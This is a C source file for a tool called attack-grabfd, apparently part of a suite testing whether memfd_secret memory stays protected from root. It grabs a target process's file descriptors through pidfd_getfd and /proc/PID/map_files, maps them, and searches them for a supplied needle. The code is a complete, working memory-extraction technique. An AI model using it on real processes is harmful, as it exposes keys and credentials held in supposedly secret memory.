/* grabfd: root reaches a process's memory through a file instead of its
 * address space. Secret memory is a file (memfd_secret); whoever holds that
 * file can map it and read it in its own address space, where no EIO
 * stands in the way. Two routes to such a file:
 *   - pidfd_getfd(2): a duplicate of every descriptor the process has open;
 *   - /proc/PID/map_files/START-END: the file behind every file-backed
 *     mapping, even after the process closed its descriptor.
 * Each regular file reached either way is mapped (MAP_SHARED, read only,
 * at the mapping's offset for map_files) and searched; pipes, sockets and
 * other descriptors are listed but not read (reading a pipe would steal the
 * program's input).
 *
 *   attack-grabfd PID NEEDLE_FILE
 *
 * Exit: 0 found, 1 not found, 2 the attack could not run (scan.h). */
#include <dirent.h>
#include <signal.h>
#include <setjmp.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>

#include "scan.h"

/* Mapping more than this of one file is not needed to make the point. */
#define GRAB_MAX ((size_t)1 << 30)

/* A file mapped beyond its end raises SIGBUS on access (a file truncated
 * since we looked at its size); such a file is reported, not fatal. */
static sigjmp_buf bus_jump;
static void on_bus(int sig)
{
	(void)sig;
	siglongjmp(bus_jump, 1);
}

static unsigned long files_grabbed, files_mapped;

/* -1 when reading the mapping raised SIGBUS. */
static int feed_guarded(struct scan *s, unsigned long addr, const unsigned char *p, size_t len,
			const struct mapping *m, const char *via)
{
	if (sigsetjmp(bus_jump, 1) != 0)
		return -1;
	scan_feed(s, addr, p, len, m, via);
	return 0;
}

/* Maps [off, off+len) of fd and feeds it to the scan as if it lay at
 * ADDR (the target's address for map_files; 0 for a descriptor). */
static void search_file(int fd, off_t off, size_t len, unsigned long addr, const struct mapping *m,
			struct scan *s, const char *via)
{
	files_grabbed++;
	if (len == 0)
		return;
	if (len > GRAB_MAX)
		len = GRAB_MAX;
	void *p = mmap(NULL, len, PROT_READ, MAP_SHARED, fd, off);
	if (p == MAP_FAILED) {
		/* Some files cannot be mapped shared (a file opened read only
		 * that the kernel wants writable); try private. */
		p = mmap(NULL, len, PROT_READ, MAP_PRIVATE, fd, off);
	}
	if (p == MAP_FAILED) {
		int e = errno;
		s->maps_failed++;
		scan_unreadable(s, m, addr, addr + len, e);
		return;
	}
	files_mapped++;
	s->carry_len = 0;
	if (feed_guarded(s, addr, p, len, m, via) != 0) {
		s->maps_failed++;
		scan_unreadable(s, m, addr, addr + len, EFAULT);
	}
	munmap(p, len);
}

static void grab_descriptors(pid_t pid, struct scan *s)
{
	int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
	if (pidfd < 0)
		tool_error("pidfd_open %d: %s", (int)pid, strerror(errno));
	char dir[64];
	snprintf(dir, sizeof(dir), "/proc/%d/fd", (int)pid);
	DIR *d = opendir(dir);
	if (d == NULL)
		tool_error("cannot open %s: %s", dir, strerror(errno));
	struct dirent *e;
	unsigned long tried = 0;
	while ((e = readdir(d)) != NULL) {
		if (e->d_name[0] < '0' || e->d_name[0] > '9')
			continue;
		char *end;
		long n = strtol(e->d_name, &end, 10);
		if (*end != 0 || n < 0 || n > INT_MAX)
			continue;
		struct mapping m;
		memset(&m, 0, sizeof(m));
		memcpy(m.perms, "fd  ", 4);
		char link[96];
		snprintf(link, sizeof(link), "%s/%ld", dir, n);
		ssize_t ll = readlink(link, m.name, sizeof(m.name) - 1);
		if (ll < 0)
			ll = 0;
		m.name[ll] = 0;
		tried++;
		int fd = (int)syscall(SYS_pidfd_getfd, pidfd, (int)n, 0);
		if (fd < 0) {
			printf("fd %ld (%s): pidfd_getfd failed: %s\n", n, m.name, strerror(errno));
			s->maps_failed++;
			continue;
		}
		struct stat st;
		if (fstat(fd, &st) != 0 || !S_ISREG(st.st_mode)) {
			printf("fd %ld (%s): grabbed, not a regular file, not read\n", n, m.name);
			close(fd);
			continue;
		}
		printf("fd %ld (%s): grabbed, %lld bytes, mapping it\n", n, m.name, (long long)st.st_size);
		/* A descriptor opened write only cannot be mapped for reading;
		 * opening it again through our own /proc/self/fd can. */
		int fl = fcntl(fd, F_GETFL);
		if (fl >= 0 && (fl & O_ACCMODE) == O_WRONLY) {
			char self[64];
			snprintf(self, sizeof(self), "/proc/self/fd/%d", fd);
			int rfd = open(self, O_RDONLY | O_CLOEXEC);
			if (rfd >= 0) {
				close(fd);
				fd = rfd;
			}
		}
		s->maps_total++;
		m.end = (unsigned long)st.st_size;
		search_file(fd, 0, (size_t)st.st_size, 0, &m, s, "pidfd_getfd");
		close(fd);
	}
	closedir(d);
	close(pidfd);
	printf("grabfd: %lu descriptors of %d looked at\n", tried, (int)pid);
}

static void grab_map_files(pid_t pid, struct scan *s)
{
	size_t nmaps;
	struct mapping *maps = read_maps(pid, &nmaps);
	long page = sysconf(_SC_PAGESIZE);
	for (size_t i = 0; i < nmaps; i++) {
		const struct mapping *m = &maps[i];
		/* Only file-backed mappings have an entry; anonymous ones and
		 * the kernel's [stack], [vdso]... do not. */
		if (m->name[0] == 0 || (m->name[0] == '[' && strchr(m->name, ']') != NULL))
			continue;
		char path[96];
		snprintf(path, sizeof(path), "/proc/%d/map_files/%lx-%lx", (int)pid, m->start, m->end);
		int fd = open(path, O_RDONLY | O_CLOEXEC);
		if (fd < 0) {
			printf("map_files %lx-%lx %s %s: open failed: %s\n", m->start, m->end, m->perms,
			       map_label(m), strerror(errno));
			s->maps_failed++;
			continue;
		}
		struct stat st;
		if (fstat(fd, &st) != 0 || !S_ISREG(st.st_mode)) {
			close(fd);
			continue;
		}
		s->maps_total++;
		/* The part of the file behind this mapping, as far as the file
		 * reaches (mapping past the end would fault). */
		size_t len = m->end - m->start;
		off_t off = (off_t)m->offset;
		if (off >= st.st_size)
			len = 0;
		else if ((unsigned long long)(st.st_size - off) < len)
			len = (size_t)(((unsigned long long)(st.st_size - off) + (unsigned long long)page - 1) &
				       ~((unsigned long long)page - 1));
		search_file(fd, off, len, m->start, m, s, "map_files");
		close(fd);
	}
	free(maps);
}

int main(int argc, char **argv)
{
	scan_tool = "attack-grabfd";
	if (argc != 3)
		tool_error("usage: attack-grabfd PID NEEDLE_FILE");
	pid_t pid = parse_pid(argv[1]);
	static unsigned char needle[NEEDLE_MAX];
	size_t nlen = load_needle(argv[2], needle);
	struct sigaction sa = {.sa_handler = on_bus};
	sigemptyset(&sa.sa_mask);
	sigaction(SIGBUS, &sa, NULL);

	struct scan s;
	scan_init(&s, needle, nlen);
	grab_descriptors(pid, &s);
	grab_map_files(pid, &s);
	printf("grabfd: %lu files reached, %lu mapped\n", files_grabbed, files_mapped);
	/* Having mapped no file at all is not a tool error here: a program
	 * may well hold none. The tests prove the tool works on a memfd. */
	printf("grabfd: mapped %llu bytes of %lu files; %lu failures\n", s.bytes_read, s.maps_total,
	       s.maps_failed);
	if (s.hits > 0) {
		printf("FOUND (%lu hits)\n", s.hits);
		return EXIT_FOUND;
	}
	printf("NOT FOUND\n");
	return EXIT_NOT_FOUND;
}
